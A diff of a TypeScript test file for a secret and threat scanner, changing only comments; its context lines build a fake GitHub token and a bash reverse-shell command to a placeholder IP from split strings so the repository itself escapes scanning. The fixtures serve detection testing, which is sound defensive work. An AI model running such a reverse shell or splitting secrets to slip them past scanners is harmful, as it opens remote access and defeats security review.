@@ -11,7 +11,7 @@ import { scannedFile } from '../scanned-file.fixture.ts';
 import { isWide, plainTextOf } from './plain-text.ts';
 
 const [inspector] = loadInspectors(readRulesFiles()).files;
-/** Put together, so that this file has none. */
+/** Joined from parts, so that scanners find no token in this file. */
 const token = ['gh', 'p_', 'R7mQ2xVb9TzKc4WnYpL8sDf3GhJ6aEu1', 'Xo5B'].join('');
 const shell = ['bash -i >& /dev/t', 'cp/192.0.2.1/4444 0>&1'].join('');
 
@@ -20,7 +20,7 @@ async function found(path: string, content: Buffer) {
   return findings.map((each) => [each.id, each.class === 'secret' ? each.line : undefined]);
 }
 
-/** With as many rows before and behind it as make it many pages. */
+/** A database with the value, and enough rows before and after it for many pages. */
 function databaseWith(value: string, setup = ''): Buffer {
   const folder = mkdtempSync(join(tmpdir(), 'ward-texts-'));
   try {
@@ -36,7 +36,7 @@ function databaseWith(value: string, setup = ''): Buffer {
   }
 }
 
-/** As `python3 -m py_compile` would, without Python: the header, and strings as marshal writes them. */
+/** Imitates `python3 -m py_compile`: the header, and strings as marshal writes them. */
 function compiled(...texts: readonly string[]): Buffer {
   const header = Buffer.alloc(16);
   header.writeUInt32LE(0x0a0d0df3, 0);
@@ -112,7 +112,7 @@ test('however it is damaged, it is read in no more bytes than it has', () => {
     fc.property(fc.array(change, { minLength: 1, maxLength: 40 }), (changes) => {
       for (const from of [whole, python]) {
         const copy = Buffer.from(from);
-        // The first page says how all is to be read.
+        // The first page determines how the rest is read.
         for (const { at, to } of changes) copy[at % (to < 128 ? 200 : copy.length)] = to;
         expect(plainTextOf(copy)?.bytes.length ?? 0).toBeLessThanOrEqual(copy.length);
       }
